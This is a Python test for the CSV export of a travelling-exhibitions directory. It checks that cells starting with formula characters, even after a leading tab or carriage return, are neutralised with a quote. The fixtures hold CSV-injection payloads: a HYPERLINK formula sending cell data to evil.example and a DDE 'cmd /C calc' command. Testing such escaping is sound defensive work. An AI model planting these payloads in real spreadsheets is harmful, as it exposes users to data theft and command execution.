"""The travelling-exhibitions guide as CSV: text people typed never runs as a formula."""

from __future__ import annotations

import csv
import io
import uuid

from directory.resources.guide import guide_csv
from directory.resources.models import Resource


def test_formula_like_cells_are_quoted_whatever_they_start_with() -> None:
    exhibition = Resource(
        id=uuid.uuid4(),
        title='\t=HYPERLINK("http://evil.example/?x="&B2,"Voir")',
        themes=[],
        audiences=[],
        loan_available=True,
        loan_conditions='\r=cmd|" /C calc"!A0',
        loan_price_eur=None,
    )
    text = guide_csv([(exhibition, "@SUM(A1:A9)")]).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row[0] == "'" + exhibition.title
    assert row[1] == "'@SUM(A1:A9)"
    assert row[5] == "'" + exhibition.loan_conditions
